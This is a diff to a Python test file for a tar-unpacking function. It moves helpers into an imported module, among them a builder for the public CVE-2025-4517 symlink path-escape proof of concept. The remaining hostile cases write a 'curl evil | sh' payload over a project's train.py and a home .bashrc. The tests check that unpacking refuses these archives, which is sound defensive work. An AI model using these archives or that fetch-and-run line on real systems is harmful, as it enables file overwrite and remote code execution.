@@ -16,6 +16,7 @@ import tarfile
 from pathlib import Path
 
 import pytest
+from hostiletars import cve_2025_4517, member, only_files_and_folders, outside, plant, tar_of, truncated_huge
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -23,93 +24,6 @@ from gpuc.core.errors import GpucError
 from gpuc.core.untar import Unpacked, make_links, plain_parts, unpack
 
 EXAMPLES = int(os.environ.get("GPUC_HOSTILE_EXAMPLES", "300"))
-Snapshot = dict[str, tuple[str, bytes]]
-
-
-# -- the world: staging beside a project and a home --------------------------------------------------
-def plant(root: Path) -> Path:
-    """The sentinels; returns the (empty) staging folder."""
-    (root / "project").mkdir()
-    (root / "project" / "train.py").write_text("print('the real one')\n")
-    (root / "home").mkdir()
-    (root / "home" / ".bashrc").write_text("# the user's own\n")
-    (root / "staging").mkdir()
-    return root / "staging"
-
-
-def outside(root: Path) -> Snapshot:
-    """Every entry under `root` but staging/: its kind and bytes (a link: its target)."""
-    out: Snapshot = {}
-    for dirpath, dirs, files in os.walk(root):
-        if Path(dirpath) == root:
-            dirs.remove("staging")
-        for name in dirs + files:
-            path = Path(dirpath) / name
-            if path.is_symlink():
-                out[str(path)] = ("l", os.readlink(path).encode())
-            elif path.is_file():
-                out[str(path)] = ("f", path.read_bytes())
-            else:
-                out[str(path)] = ("d", b"")
-    return out
-
-
-def only_files_and_folders(staging: Path) -> None:
-    for path in staging.rglob("*"):
-        st_ = path.lstat()
-        assert stat.S_ISREG(st_.st_mode) or stat.S_ISDIR(st_.st_mode), path
-        assert st_.st_mode & 0o7022 == 0, (path, oct(st_.st_mode))  # no setuid/setgid/sticky, no g/o write
-        assert not stat.S_ISREG(st_.st_mode) or st_.st_nlink == 1, path
-
-
-# -- building tars ------------------------------------------------------------------------------------
-def member(
-    name: str, kind: str = "f", body: bytes = b"", target: str = "", mode: int = 0o644
-) -> tuple[tarfile.TarInfo, bytes]:
-    info = tarfile.TarInfo(name)
-    info.mode = mode
-    info.type = {
-        "f": tarfile.REGTYPE,
-        "d": tarfile.DIRTYPE,
-        "l": tarfile.SYMTYPE,
-        "h": tarfile.LNKTYPE,
-        "chr": tarfile.CHRTYPE,
-        "blk": tarfile.BLKTYPE,
-        "fifo": tarfile.FIFOTYPE,
-    }[kind]
-    info.linkname = target
-    info.size = len(body) if kind == "f" else 0
-    return info, body
-
-
-def tar_of(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
-        for info, body in members:
-            tar.addfile(info, io.BytesIO(body) if info.isreg() else None)
-    return buf.getvalue()
-
-
-def cve_2025_4517(escape_to: str, leaf: str, body: bytes) -> bytes:
-    """The public proof of concept: folders with 247-character names, a one-letter link to each, so that
-    a/b/.../p expands past PATH_MAX; a link there climbing back out, and `escape` through it to
-    `escape_to` beside the staging folder, then a file written through `escape`."""
-    comp, steps, path, members = "d" * 247, "abcdefghijklmnop", "", []
-    for step in steps:
-        members += [member(os.path.join(path, comp), "d"), member(os.path.join(path, step), "l", target=comp)]
-        path = os.path.join(path, comp)
-    linkpath = os.path.join(*steps, "l" * 254)
-    members.append(member(linkpath, "l", target=os.path.join(*[".."] * len(steps))))
-    members.append(member("escape", "l", target=f"{linkpath}/../{escape_to}"))
-    members.append(member(f"escape/{leaf}", "f", body))
-    return tar_of(*members)
-
-
-def truncated_huge() -> bytes:
-    """A header declaring a terabyte, then 10 KB of it and the end of the stream."""
-    info = tarfile.TarInfo("big.bin")
-    info.size = 10**12
-    return info.tobuf(tarfile.PAX_FORMAT) + b"x" * 10_000
 
 
 def hostile(root: Path) -> dict[str, tuple[bytes, str | None]]:
@@ -117,8 +31,8 @@ def hostile(root: Path) -> dict[str, tuple[bytes, str | None]]:
     train, bashrc = root / "project" / "train.py", root / "home" / ".bashrc"
     evil = b"import os; os.system('curl evil | sh')\n"
     return {
-        "cve-2025-4517-project": (cve_2025_4517("project", "train.py", evil), "a name below a link"),
-        "cve-2025-4517-home": (cve_2025_4517("home", ".bashrc", evil), "a name below a link"),
+        "cve-2025-4517-project": (tar_of(*cve_2025_4517("project", "train.py", evil)), "a name below a link"),
+        "cve-2025-4517-home": (tar_of(*cve_2025_4517("home", ".bashrc", evil)), "a name below a link"),
         "symlink-then-file": (
             tar_of(member("p", "l", target="../project"), member("p/train.py", "f", evil)),
             "below a link",
